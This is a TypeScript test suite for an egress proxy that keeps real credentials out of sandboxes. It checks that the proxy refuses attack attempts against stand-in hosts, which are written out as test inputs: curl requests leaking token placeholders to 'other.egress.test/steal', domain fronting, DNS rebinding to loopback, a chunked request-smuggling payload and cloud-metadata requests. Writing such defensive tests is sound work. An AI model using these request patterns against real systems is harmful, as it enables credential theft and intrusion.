import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer as createHttpServer, type IncomingMessage, type RequestListener, type Server as HttpServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { connect, createServer as createNetServer, type Server as NetServer } from 'node:net';
import { join, normalize } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EgressCa } from '../../src/egress/ca.js';
import type { EgressCredential } from '../../src/egress/credentials.js';
import { parseEgressPolicy } from '../../src/egress/policy.js';
import { placeholderFor } from '../../src/egress/placeholders.js';
import { createEgressProxy, type EgressProxy } from '../../src/egress/proxy.js';
import type { EgressEvent, EgressSandbox } from '../../src/egress/types.js';
import { createTestNet, describeNetns, type TestNet } from '../helpers/netns.js';

/*
 * The egress proxy with real clients (curl, git, node's tls and raw sockets) against real HTTP and
 * HTTPS servers on test hosts in a network namespace (public-looking addresses: loopback is
 * always denied), named through the policy's `hosts:`. The servers have certificates of their own
 * test CA, which the proxy is given as the operator's upstream bundle.
 */

const GH_VALUE = 'ghp_REALVALUE_never_in_the_sandbox';
const KEY_VALUE = 'key-REAL-injected';
const SECRET = Buffer.alloc(32, 3);
const DIGEST = 'sandbox-digest-1';

interface Seen {
  url?: string | undefined;
  host: string | undefined;
  authorization: string | undefined;
  apiKey: string | undefined;
}

/** An echo handler: answers with what it saw (and keeps it), or `bytes` of data on /bulk/<n>. */
function echo(seen: Seen[]): RequestListener {
  return (req: IncomingMessage, res) => {
    const s: Seen = { host: req.headers.host, authorization: req.headers.authorization, apiKey: req.headers['x-api-key'] as string | undefined };
    seen.push({ ...s, url: req.url });
    req.resume();
    req.on('end', () => {
      const bulk = /^\/bulk\/(\d+)$/.exec(req.url ?? '');
      if (bulk !== null) {
        res.writeHead(200, { 'content-length': bulk[1] });
        res.end(Buffer.alloc(Number(bulk[1]), 120));
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(s));
    });
  };
}

/** A dumb-HTTP git server for `repoDir` that wants Basic `x-access-token:<GH_VALUE>`. */
function gitServer(root: string, seen: Seen[]): RequestListener {
  const want = `Basic ${Buffer.from(`x-access-token:${GH_VALUE}`).toString('base64')}`;
  return (req, res) => {
    seen.push({ host: req.headers.host, authorization: req.headers.authorization, apiKey: undefined });
    if (req.headers.authorization !== want) {
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' });
      res.end();
      return;
    }
    const path = normalize(decodeURIComponent((req.url ?? '/').split('?')[0]!));
    try {
      const body = readFileSync(join(root, path));
      res.writeHead(200, { 'content-length': body.length });
      res.end(body);
    } catch {
      res.writeHead(404);
      res.end();
    }
  };
}

function run(cmd: string, args: string[], env: Record<string, string>, cwd?: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(cmd, args, { env, cwd, timeout: 30_000 }, (err, stdout, stderr) => {
      resolve({ code: err === null ? 0 : typeof err.code === 'number' ? err.code : 1, stdout, stderr });
    });
  });
}

/** Sends `head` to the proxy on a fresh connection and returns everything it answers until it closes. */
function rawExchange(port: number, head: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1');
    let out = '';
    s.setEncoding('latin1');
    s.on('data', (d: string) => { out += d; });
    s.on('close', () => resolve(out));
    s.on('error', reject);
    s.write(head);
  });
}

function listen(server: NetServer, handle: NetServer): Promise<void> {
  return new Promise((resolve) => server.listen(handle, () => resolve()));
}

describeNetns('egress proxy with real clients', () => {
  let net: TestNet;
  let proxy: EgressProxy;
  let proxyListener: NetServer;
  let proxyPort: number;
  let berthCaFile: string;
  let clientEnv: Record<string, string>;
  let workDir: string;
  const servers: Array<HttpServer | NetServer> = [];
  const seen: Seen[] = [];
  const events: EgressEvent[] = [];
  const lookups: string[] = [];
  /** Connections each test server accepted, by `name:port`. */
  const connections = new Map<string, number>();
  let resolve: (name: string) => Promise<string[]>;
  /** Names the fake resolver answers (filled in beforeAll; a test may add one). */
  let answersLate: Record<string, string> = {};
  const ghPh = placeholderFor(SECRET, DIGEST, 'GITHUB_TOKEN');
  const keyPh = placeholderFor(SECRET, DIGEST, 'API_KEY');

  beforeAll(async () => {
    net = await createTestNet(6);
    const [apiIp, gitIp, otherIp, wrongIp, tunnelIp, rebindIp] = net.addresses as [string, string, string, string, string, string];
    const dir = mkdtempSync(join(tmpdir(), 'berth-egress-e2e-'));
    workDir = dir;
    const upstreamCa = await EgressCa.open(join(dir, 'upstream-ca'));
    const strangerCa = await EgressCa.open(join(dir, 'stranger-ca'));
    const berthCa = await EgressCa.open(join(dir, 'berth-egress'));
    berthCaFile = join(dir, 'berth-ca.pem');
    writeFileSync(berthCaFile, berthCa.certPem);
    writeFileSync(join(dir, 'upstream-ca.pem'), upstreamCa.certPem);

    // A git repository with one commit, served as dumb HTTP.
    const repoRoot = join(dir, 'repos');
    mkdirSync(repoRoot);
    const gitEnv = { PATH: process.env['PATH']!, HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@x', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@x' };
    const src = join(dir, 'src');
    mkdirSync(src);
    for (const args of [['init', '-q', '-b', 'main'], ['config', 'commit.gpgsign', 'false']]) await run('git', args, gitEnv, src);
    writeFileSync(join(src, 'README'), 'hello from the test repo\n');
    await run('git', ['add', 'README'], gitEnv, src);
    await run('git', ['commit', '-qm', 'first'], gitEnv, src);
    await run('git', ['clone', '-q', '--bare', src, join(repoRoot, 'repo.git')], gitEnv);
    await run('git', ['update-server-info'], gitEnv, join(repoRoot, 'repo.git'));

    const serve = async (ip: string, port: number, handler: RequestListener, ca?: EgressCa, name?: string): Promise<void> => {
      const server = ca === undefined ? createHttpServer(handler) : createHttpsServer(await ca.leafFor(name!).then((l) => ({ key: l.keyPem, cert: l.certPem })), handler);
      await listen(server, await net.listen(ip, port));
      server.on('connection', () => { connections.set(`${name ?? ip}:${port}`, (connections.get(`${name ?? ip}:${port}`) ?? 0) + 1); });
      servers.push(server);
    };
    await serve(apiIp, 443, echo(seen), upstreamCa, 'api.egress.test');
    await serve(apiIp, 80, echo(seen));
    await serve(gitIp, 443, gitServer(repoRoot, seen), upstreamCa, 'git.egress.test');
    await serve(otherIp, 443, echo(seen), upstreamCa, 'other.egress.test');
    await serve(otherIp, 80, echo(seen));
    await serve(wrongIp, 443, echo(seen), strangerCa, 'wrongca.egress.test');
    await serve(tunnelIp, 443, echo(seen), upstreamCa, 'tunnel.egress.test');
    await serve(rebindIp, 443, echo(seen), upstreamCa, 'rebind.egress.test');
    // A name whose DNS answer turns to loopback after the first lookup (DNS rebinding).
    // Names whose DNS answer is an address berth always refuses (a static `hosts:` entry to one is
    // a start-up error: the resolver is where such an answer comes from).
    const answers: Record<string, string> = answersLate = {
      'private.alias.egress.test': '10.1.2.3', 'loop.alias.egress.test': '127.0.0.1', 'mapped.alias.egress.test': '::ffff:127.0.0.1',
      'meta.alias.egress.test': '169.254.169.254', 'self.alias.egress.test': net.hostAddress,
    };
    resolve = async (name) => {
      lookups.push(name);
      const answer = answers[name];
      if (answer !== undefined) return [answer];
      if (name !== 'rebind.egress.test') throw Object.assign(new Error(`no such name ${name}`), { code: 'ENOTFOUND' });
      return lookups.filter((n) => n === name).length === 1 ? [rebindIp] : ['127.0.0.1'];
    };

    const policy = parseEgressPolicy({
      mode: 'allowlist',
      allow: ['api.egress.test', 'git.egress.test', 'other.egress.test', 'wrongca.egress.test', 'tunnel.egress.test', 'rebind.egress.test', '*.alias.egress.test'],
      hosts: {
        'api.egress.test': apiIp, 'git.egress.test': gitIp, 'other.egress.test': otherIp, 'wrongca.egress.test': wrongIp, 'tunnel.egress.test': tunnelIp,
      },
    });
    const credentials: EgressCredential[] = [
      { name: 'GITHUB_TOKEN', value: GH_VALUE, placeholder: ghPh, hosts: ['api.egress.test', 'git.egress.test', 'wrongca.egress.test', 'rebind.egress.test'] },
      { name: 'API_KEY', value: KEY_VALUE, placeholder: keyPh, hosts: ['other.egress.test'], inject: { header: 'X-Api-Key', value: '{value}' } },
    ];
    const sandbox: EgressSandbox = {
      identity: { tenant: 'local', profile: 'default', sandboxKey: 'session:e2e', session: 'e2e' },
      policy, credentials, onDecision: (e) => events.push(e),
    };
    proxy = createEgressProxy({ ca: berthCa, upstreamTrust: { system: false, extraCaPem: upstreamCa.certPem }, limits: { connectMs: 3_000 }, resolve: (n) => resolve(n) });
    proxyListener = createNetServer((socket) => proxy.handle(socket, sandbox));
    await new Promise<void>((resolve) => proxyListener.listen(0, '127.0.0.1', () => resolve()));
    proxyPort = (proxyListener.address() as { port: number }).port;
    const proxyUrl = `http://127.0.0.1:${proxyPort}`;
    clientEnv = {
      PATH: process.env['PATH']!, HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0',
      HTTPS_PROXY: proxyUrl, https_proxy: proxyUrl, HTTP_PROXY: proxyUrl, http_proxy: proxyUrl,
      CURL_CA_BUNDLE: berthCaFile, GIT_SSL_CAINFO: berthCaFile,
      // What the sandbox's environment holds: placeholders only.
      GITHUB_TOKEN: ghPh, API_KEY: keyPh,
    };
  });

  afterAll(async () => {
    await proxy?.close();
    proxyListener?.close();
    for (const s of servers) s.close();
    await net?.close();
    if (workDir !== undefined) rmSync(workDir, { recursive: true, force: true });
  });

  const curl = (...args: string[]) => run('curl', ['-sS', '--max-time', '10', ...args], clientEnv);
  const lastEvent = (host: string) => events.filter((e) => e.host === host).at(-1);
  /** Waits for the proxy to report a tunnel or request that is still closing. */
  const eventFor = async (pred: (e: EgressEvent) => boolean): Promise<EgressEvent> => {
    for (let i = 0; i < 100; i++) {
      const e = events.find(pred);
      if (e !== undefined) return e;
      await new Promise((r) => setTimeout(r, 20));
    }
    throw new Error(`no such event among ${JSON.stringify(events.map((e) => [e.host, e.rule]))}`);
  };

  it('an allowed name works over HTTPS (tunnelled untouched) and over plain HTTP, by name', async () => {
    // The tunnel's server has a certificate of the upstream test CA, which only the proxy trusts: the client is told to trust it too.
    const tls = await curl('--cacert', join(workDir, 'upstream-ca.pem'), 'https://tunnel.egress.test/hello');
    expect(tls.stderr).toBe('');
    expect(JSON.parse(tls.stdout)).toMatchObject({ host: 'tunnel.egress.test' });
    const e = await eventFor((x) => x.host === 'tunnel.egress.test' && x.channel === 'tls-tunnel' && x.allowed);
    expect(e).toMatchObject({ port: 443, rule: 'allow tunnel.egress.test', credentials: [], identity: { sandboxKey: 'session:e2e' } });
    expect(e.bytesUp).toBeGreaterThan(200);
    expect(e.bytesDown).toBeGreaterThan(200);
    const http = await curl('http://api.egress.test/plain');
    expect(JSON.parse(http.stdout)).toMatchObject({ host: 'api.egress.test' });
    expect(lastEvent('api.egress.test')).toMatchObject({ channel: 'http', allowed: true, status: 200, rule: 'allow api.egress.test' });
  });

  it('a tunnel carries bulk data intact', async () => {
    const r = await curl('--cacert', join(workDir, 'upstream-ca.pem'), '-o', '/dev/null', '-w', '%{size_download}', 'https://tunnel.egress.test/bulk/5000000');
    expect(r.stdout).toBe('5000000');
  });

  it.each([
    ['evil.egress.test:443', 'evil.egress.test:443 refused (not in egress.allow)'],
    [`${'198.51.100.2'}:443`, '198.51.100.2:443 refused (not in egress.allow: an IP address is reached only through a cidr: entry)'],
    ['private.alias.egress.test:443', 'private.alias.egress.test:443 refused (always denied: private: 10.1.2.3)'],
    ['loop.alias.egress.test:443', 'loop.alias.egress.test:443 refused (always denied: loopback: 127.0.0.1)'],
    ['mapped.alias.egress.test:443', 'mapped.alias.egress.test:443 refused (always denied: loopback: 127.0.0.1)'],
    ['meta.alias.egress.test:443', 'meta.alias.egress.test:443 refused (always denied: metadata (link-local): 169.254.169.254)'],
    ['api.egress.test:22', 'api.egress.test:22 refused (not in egress.allow: api.egress.test is allowed on port 443'],
    ['127.0.0.1:443', '127.0.0.1:443 refused (not in egress.allow'],
  ])('CONNECT %s is answered 403 with one line naming the host and the rule', async (authority, text) => {
    const answer = await rawExchange(proxyPort, `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n/);
    expect(answer).toContain(`\r\n\r\nberth egress: ${text}`);
    expect(answer).toMatch(/; the operator decides what this sandbox may reach\n$/);
    expect(lastEvent(authority.replace(/:\d+$/, ''))).toMatchObject({ allowed: false, status: 403 });
  });

  it("a name resolving to the host's own address is refused", async () => {
    const answer = await rawExchange(proxyPort, 'CONNECT self.alias.egress.test:443 HTTP/1.1\r\n\r\n');
    expect(answer).toContain(`refused (always denied: host address: ${net.hostAddress})`);
  });

  it('an address the host gains after the proxy started is the host\'s too once the proxy reads the addresses again: by hand, and by its own timer', async () => {
    const late = '198.51.100.250';
    answersLate['late.alias.egress.test'] = late;
    // A second proxy that reads the addresses every 100 ms (30 s by default) on its own.
    const ticking = createEgressProxy({ ca: await EgressCa.open(join(workDir, 'ticking-ca')), hostAddressesMs: 100, resolve: (n) => resolve(n) });
    const tickingListener = createNetServer((socket) => ticking.handle(socket, {
      identity: { tenant: 'local', profile: 'default', sandboxKey: 'session:tick' }, policy: parseEgressPolicy({ mode: 'allowlist', allow: ['*.alias.egress.test'] }), credentials: [], onDecision: () => undefined,
    }));
    await new Promise<void>((r) => tickingListener.listen(0, '127.0.0.1', () => r()));
    const tickingPort = (tickingListener.address() as { port: number }).port;
    const ask = (port: number): Promise<string> => rawExchange(port, 'CONNECT late.alias.egress.test:443 HTTP/1.1\r\n\r\n');
    execFileSync('ip', ['addr', 'add', `${late}/32`, 'dev', 'lo']);
    try {
      // Not read yet: refused only for not being allowed by name (the resolver's answer is public-looking).
      expect(await ask(proxyPort)).not.toContain('host address');
      proxy.refreshHostAddresses();
      expect(await ask(proxyPort)).toContain(`refused (always denied: host address: ${late})`);
      // Nobody calls the ticking proxy's refresh: its timer reads the new address.
      let answer = '';
      for (let i = 0; i < 100 && !answer.includes('host address'); i++) {
        answer = await ask(tickingPort);
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(answer).toContain(`refused (always denied: host address: ${late})`);
    } finally {
      execFileSync('ip', ['addr', 'del', `${late}/32`, 'dev', 'lo']);
      proxy.refreshHostAddresses();
      await ticking.close();
      tickingListener.close();
    }
  });

  it('plain HTTP refusals are 403 bodies curl shows: another name, the metadata address, a Host header naming another host', async () => {
    expect((await curl('http://evil.egress.test/')).stdout).toBe('berth egress: evil.egress.test:80 refused (not in egress.allow); the operator decides what this sandbox may reach\n');
    expect((await curl('http://169.254.169.254/latest/meta-data/')).stdout).toContain('169.254.169.254:80 refused (not in egress.allow');
    const fronted = await curl('-H', 'Host: evil.egress.test', 'http://api.egress.test/');
    expect(fronted.stdout).toBe('berth egress: api.egress.test:80 refused (host mismatch: the Host header names evil.egress.test); the operator decides what this sandbox may reach\n');
  });

  it('a ClientHello naming another host than the CONNECT (domain fronting) is refused with a TLS alert, tunnelled or intercepted', async () => {
    for (const target of ['tunnel.egress.test', 'api.egress.test']) {
      const before = seen.length;
      const r = await curl('--connect-to', `fronted.example:443:${target}:443`, 'https://fronted.example/');
      expect(r.code).toBe(35);
      expect(r.stderr).toContain('alert access denied');
      const e = await eventFor((x) => x.host === target && x.rule === 'fronting');
      expect(e).toMatchObject({ allowed: false, detail: 'the ClientHello names "fronted.example"' });
      expect(seen.length).toBe(before);
    }
  });

  it('a tunnel whose ClientHello names no server is refused', async () => {
    const s = connect(proxyPort, '127.0.0.1');
    s.write('CONNECT tunnel.egress.test:443 HTTP/1.1\r\n\r\n');
    await new Promise((r) => s.once('data', r));
    const t = tlsConnect({ socket: s, rejectUnauthorized: false });
    const err = await new Promise<Error>((resolve) => t.once('error', resolve));
    expect(err.message).toMatch(/alert access denied/);
    expect(await eventFor((x) => x.host === 'tunnel.egress.test' && x.detail === 'the ClientHello names no server')).toMatchObject({ rule: 'fronting' });
  });

  it('curl with a placeholder in Authorization: the server gets the real value, over an intercepted session', async () => {
    const r = await curl('-H', `Authorization: Bearer ${ghPh}`, 'https://api.egress.test/user');
    expect(JSON.parse(r.stdout)).toEqual({ host: 'api.egress.test', authorization: `Bearer ${GH_VALUE}` });
    expect(lastEvent('api.egress.test')).toMatchObject({ channel: 'intercepted', allowed: true, credentials: ['GITHUB_TOKEN'], status: 200 });
    expect(JSON.stringify(events)).not.toContain(GH_VALUE);
    expect(JSON.stringify(events)).not.toContain(ghPh);
  });

  it('git clone https://x-access-token:$PLACEHOLDER@host/repo.git arrives with the real value (Basic)', async () => {
    const dest = join(workDir, 'clone');
    const r = await run('git', ['clone', '-q', `https://x-access-token:${ghPh}@git.egress.test/repo.git`, dest], clientEnv);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(readFileSync(join(dest, 'README'), 'utf8')).toBe('hello from the test repo\n');
    const auths = seen.filter((s) => s.host === 'git.egress.test').map((s) => s.authorization);
    expect(auths).toContain(`Basic ${Buffer.from(`x-access-token:${GH_VALUE}`).toString('base64')}`);
    expect(auths.join()).not.toContain(Buffer.from(ghPh).toString('base64').slice(0, 20));
  });

  it('header injection: the configured header reaches its host without the sandbox sending anything', async () => {
    const r = await curl('https://other.egress.test/injected');
    expect(JSON.parse(r.stdout)).toMatchObject({ apiKey: KEY_VALUE });
    expect(lastEvent('other.egress.test')).toMatchObject({ channel: 'intercepted', credentials: ['API_KEY'] });
  });

  it('a placeholder on its way to another allowed host is refused and reported as exfiltration', async () => {
    const before = seen.length;
    const intercepted = await curl('-H', `Authorization: Bearer ${ghPh}`, 'https://other.egress.test/steal');
    expect(intercepted.stdout).toBe('berth egress: other.egress.test:443 refused (exfiltration: a placeholder of GITHUB_TOKEN); the operator decides what this sandbox may reach\n');
    const plain = await curl('-H', `X-Leak: ${ghPh}`, 'http://other.egress.test/steal');
    expect(plain.stdout).toContain('refused (exfiltration: a placeholder of GITHUB_TOKEN)');
    const ownOverHttp = await curl('-H', `Authorization: Bearer ${ghPh}`, 'http://api.egress.test/');
    expect(ownOverHttp.stdout).toContain('refused (exfiltration: GITHUB_TOKEN is sent over HTTPS only)');
    const inUrl = await curl(`https://other.egress.test/?t=${ghPh}`);
    expect(inUrl.stdout).toContain('refused (exfiltration: a placeholder of GITHUB_TOKEN)');
    const inTarget = await rawExchange(proxyPort, `CONNECT ${ghPh}.other.egress.test:443 HTTP/1.1\r\n\r\n`);
    expect(inTarget).toContain('refused (exfiltration: a placeholder of GITHUB_TOKEN)');
    expect(seen.length).toBe(before);
    expect(events.filter((e) => e.rule === 'exfiltration')).toHaveLength(5);
  });

  it('inside an intercepted session, a request naming another host is refused', async () => {
    const r = await curl('-H', 'Host: other.egress.test', 'https://api.egress.test/');
    expect(r.stdout).toBe('berth egress: api.egress.test:443 refused (host mismatch: the request names other.egress.test inside a session to api.egress.test); the operator decides what this sandbox may reach\n');
  });

  it('the upstream certificate is verified: a server with another CA\'s certificate is refused 502', async () => {
    const r = await curl('-w', '%{http_code}', 'https://wrongca.egress.test/');
    expect(r.stdout).toMatch(/^berth egress: wrongca\.egress\.test:443 upstream certificate not trusted \(UNABLE_TO_VERIFY_LEAF_SIGNATURE: .*\)\n502$/);
    expect(lastEvent('wrongca.egress.test')).toMatchObject({ allowed: true, status: 502 });
  });

  it('DNS rebinding: a name is looked up once per CONNECT, its session keeps the checked address, a later answer of loopback is refused', async () => {
    const r = await curl('-H', `Authorization: Bearer ${ghPh}`, 'https://rebind.egress.test/1', 'https://rebind.egress.test/2', 'https://rebind.egress.test/3');
    expect(r.stdout.match(/"host":"rebind\.egress\.test"/g)).toHaveLength(3);
    expect(lookups.filter((n) => n === 'rebind.egress.test')).toHaveLength(1);
    const again = await curl('https://rebind.egress.test/4');
    expect(again.stderr).toContain('CONNECT tunnel failed, response 403');
    expect(lastEvent('rebind.egress.test')).toMatchObject({ allowed: false, rule: 'always denied: loopback', detail: '127.0.0.1' });
  });

  it('pipelined requests inside an intercepted session are checked one by one', async () => {
    const s = connect(proxyPort, '127.0.0.1');
    s.write('CONNECT api.egress.test:443 HTTP/1.1\r\n\r\n');
    await new Promise((r) => s.once('data', r));
    const t = tlsConnect({ socket: s, servername: 'api.egress.test', ca: readFileSync(berthCaFile, 'utf8') });
    await new Promise((r) => t.once('secureConnect', r));
    let out = '';
    t.setEncoding('latin1').on('data', (d: string) => { out += d; });
    t.write(`GET /one HTTP/1.1\r\nHost: api.egress.test\r\nAuthorization: Bearer ${ghPh}\r\n\r\nGET /two HTTP/1.1\r\nHost: other.egress.test\r\nAuthorization: Bearer ${ghPh}\r\nConnection: close\r\n\r\n`);
    await new Promise((r) => t.once('close', r));
    expect(out).toMatch(/^HTTP\/1\.1 200 OK[\s\S]*"authorization":"Bearer ghp_REALVALUE_never_in_the_sandbox"[\s\S]*HTTP\/1\.1 403 Forbidden[\s\S]*host mismatch: the request names other\.egress\.test/);
  });

  it('a chunked body stays framed upstream: its bytes never become a request of their own', async () => {
    const s = connect(proxyPort, '127.0.0.1');
    s.write('CONNECT api.egress.test:443 HTTP/1.1\r\n\r\n');
    await new Promise((r) => s.once('data', r));
    const t = tlsConnect({ socket: s, servername: 'api.egress.test', ca: readFileSync(berthCaFile, 'utf8') });
    await new Promise((r) => t.once('secureConnect', r));
    const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: api.egress.test\r\n\r\n';
    let out = '';
    t.setEncoding('latin1').on('data', (d: string) => { out += d; });
    t.write(`GET /carrier HTTP/1.1\r\nHost: api.egress.test\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`);
    await new Promise((r) => setTimeout(r, 300));
    t.write('GET /after HTTP/1.1\r\nHost: api.egress.test\r\nConnection: close\r\n\r\n');
    await new Promise((r) => t.once('close', r));
    expect(out.match(/HTTP\/1\.1 200/g)).toHaveLength(2);
    const urls = seen.map((x) => x.url);
    expect(urls).toContain('/carrier');
    expect(urls).toContain('/after');
    expect(urls).not.toContain('/smuggled');
  });

  it('a kept-alive plain HTTP connection has each request decided on its own', async () => {
    const answer = await rawExchange(proxyPort, 'GET http://api.egress.test/first HTTP/1.1\r\nHost: api.egress.test\r\n\r\n' +
      'GET http://evil.egress.test/second HTTP/1.1\r\nHost: evil.egress.test\r\nConnection: close\r\n\r\n');
    expect(answer).toMatch(/^HTTP\/1\.1 200 OK[\s\S]*"host":"api\.egress\.test"[\s\S]*HTTP\/1\.1 403 Forbidden[\s\S]*evil\.egress\.test:80 refused \(not in egress\.allow\)/);
  });

  it('an absolute URL with userinfo is decided on its real host, not the one before the @', async () => {
    const answer = await rawExchange(proxyPort, 'GET http://api.egress.test@evil.egress.test/ HTTP/1.1\r\nHost: api.egress.test\r\nConnection: close\r\n\r\n');
    expect(answer).toContain('berth egress: evil.egress.test:80 refused (host mismatch: the Host header names api.egress.test)');
  });

  it('keeps upstream connections alive per sandbox and host, across requests and sessions', async () => {
    const before = connections.get('api.egress.test:443') ?? 0;
    const ph = ['-H', `Authorization: Bearer ${ghPh}`];
    const r = await curl(...ph, 'https://api.egress.test/a', 'https://api.egress.test/b', 'https://api.egress.test/c');
    expect(r.stdout.split('}{')).toHaveLength(3);
    await curl(...ph, 'https://api.egress.test/d');
    await curl(...ph, 'https://api.egress.test/e');
    // Five requests in three client sessions: at most one new upstream connection (none if an earlier test's is still open).
    expect((connections.get('api.egress.test:443') ?? 0) - before).toBeLessThanOrEqual(1);
  });
});

describe('egress proxy bounds (no upstream needed)', () => {
  let proxy: EgressProxy;
  let listener: NetServer;
  let port: number;
  let dir: string;
  const events: EgressEvent[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'berth-egress-bounds-'));
    const ca = await EgressCa.open(join(dir, 'egress'));
    proxy = createEgressProxy({ ca, limits: { headMs: 500, clientHelloMs: 500, headBytes: 4096 } });
    const sandbox: EgressSandbox = {
      identity: { tenant: 'local', profile: 'default', sandboxKey: 'default' },
      policy: parseEgressPolicy({ mode: 'allowlist', allow: ['api.egress.test', { cidr: '127.0.0.2/32' }], hosts: { 'api.egress.test': '127.0.0.2' } }),
      // A credential host is answered 200 before any upstream connect: its ClientHello is awaited first.
      credentials: [{ name: 'T', value: 'v', placeholder: 'berth-ph-0', hosts: ['api.egress.test'] }],
      onDecision: (e) => events.push(e),
    };
    listener = createNetServer((socket) => proxy.handle(socket, sandbox));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
    port = (listener.address() as { port: number }).port;
  });

  afterAll(async () => {
    await proxy?.close();
    listener?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('closes a client that sends nothing', async () => {
    const answer = await rawExchange(port, '');
    expect(answer).toMatch(/^HTTP\/1\.1 408/);
  });

  it('closes a client whose head never completes, however slowly it trickles', async () => {
    const s = connect(port, '127.0.0.1');
    s.write('CONNECT api.egress.test:443 HTTP/1.1\r\n');
    const timer = setInterval(() => s.write('X-A: b\r\n'), 100);
    const closed = await new Promise<string>((resolve) => {
      let out = '';
      s.on('data', (d) => { out += String(d); });
      s.on('close', () => resolve(out));
    });
    clearInterval(timer);
    expect(closed).toMatch(/^HTTP\/1\.1 408/);
  });

  it('refuses a head over the size limit with 431 and closes', async () => {
    const answer = await rawExchange(port, `CONNECT api.egress.test:443 HTTP/1.1\r\nX-Big: ${'a'.repeat(8000)}\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 431/);
  });

  it('closes a tunnel whose ClientHello never completes, and reports it', async () => {
    const curlHello = Buffer.from(readFileSync(join(import.meta.dirname, '../fixtures/egress/client-hello-curl.hex'), 'utf8').replace(/\s+/g, ''), 'hex');
    const s = connect(port, '127.0.0.1');
    let out = '';
    s.on('data', (d) => {
      out += String(d);
      s.write(curlHello.subarray(0, 100));
    });
    s.write('CONNECT api.egress.test:443 HTTP/1.1\r\n\r\n');
    await new Promise((r) => s.once('close', r));
    expect(out).toBe('HTTP/1.1 200 Connection Established\r\n\r\n\x15\x03\x03\x00\x02\x02\x31');
    expect(events.at(-1)).toMatchObject({ host: 'api.egress.test', allowed: false, rule: 'bad client hello', detail: 'no complete ClientHello within 500 ms' });
  });

  it('answers 502 at once when a tunnel\'s upstream refuses the connection', async () => {
    const refused = await rawExchange(port, 'CONNECT 127.0.0.2:9 HTTP/1.1\r\n\r\n');
    expect(refused).toMatch(/^HTTP\/1\.1 502 Bad Gateway\r\n[\s\S]*berth egress: 127\.0\.0\.2:9 upstream failed \(ECONNREFUSED/);
  });

  it('answers an origin-form request with 400 saying how to use the proxy', async () => {
    const answer = await rawExchange(port, 'GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    expect(answer).toMatch(/^HTTP\/1\.1 400/);
    expect(answer).toContain('berth egress: this is an HTTP proxy');
  });
});

describe('egress proxy: a cidr: entry with ports (real TCP servers on a loopback address the entry names)', () => {
  let proxy: EgressProxy;
  let proxyListener: NetServer;
  let dir: string;
  const servers: NetServer[] = [];
  const events: EgressEvent[] = [];

  /** A TCP server on 127.0.0.2 that greets with its name; its port. */
  async function greeter(name: string): Promise<number> {
    const s = createNetServer((socket) => socket.end(`${name}\n`));
    servers.push(s);
    await new Promise<void>((resolve) => s.listen(0, '127.0.0.2', () => resolve()));
    return (s.address() as { port: number }).port;
  }

  afterAll(async () => {
    await proxy?.close();
    proxyListener?.close();
    for (const s of servers) s.close();
    if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
  });

  it('tunnels to the ports the entry lists and refuses another port of the same address, naming the ports', async () => {
    const [db, other] = [await greeter('db'), await greeter('other')];
    dir = mkdtempSync(join(tmpdir(), 'berth-egress-ports-'));
    proxy = createEgressProxy({ ca: await EgressCa.open(join(dir, 'egress')) });
    const sandbox: EgressSandbox = {
      identity: { tenant: 'local', profile: 'default', sandboxKey: 'default' },
      policy: parseEgressPolicy({
        mode: 'allowlist',
        allow: [{ host: `db.internal:${db}` }, { cidr: '127.0.0.2/32', ports: [db] }],
        hosts: { 'db.internal': '127.0.0.2' },
      }),
      credentials: [],
      onDecision: (e) => events.push(e),
    };
    proxyListener = createNetServer((socket) => proxy.handle(socket, sandbox));
    await new Promise<void>((resolve) => proxyListener.listen(0, '127.0.0.1', () => resolve()));
    const proxyPort = (proxyListener.address() as { port: number }).port;
    const through = (target: string): Promise<string> => rawExchange(proxyPort, `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);

    expect(await through(`db.internal:${db}`)).toMatch(/^HTTP\/1\.1 200 [^\r]*\r\n(?:[^\r]+\r\n)*\r\ndb\n$/);
    expect(await through(`127.0.0.2:${db}`)).toMatch(/\r\n\r\ndb\n$/);
    const refused = await through(`127.0.0.2:${other}`);
    expect(refused).toMatch(/^HTTP\/1\.1 403 /);
    expect(refused).toContain(`which allows port ${db} only`);
    expect(refused).not.toContain('other\n');
    expect(await through(`db.internal:${other}`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(events.map((e) => [e.port, e.allowed, e.rule])).toEqual([
      [db, true, `allow host:db.internal:${db}`],
      [db, true, `allow cidr:127.0.0.2/32 ports ${db}`],
      [other, false, 'always denied: loopback'],
      [other, false, 'always denied: loopback'],
    ]);
  });
});
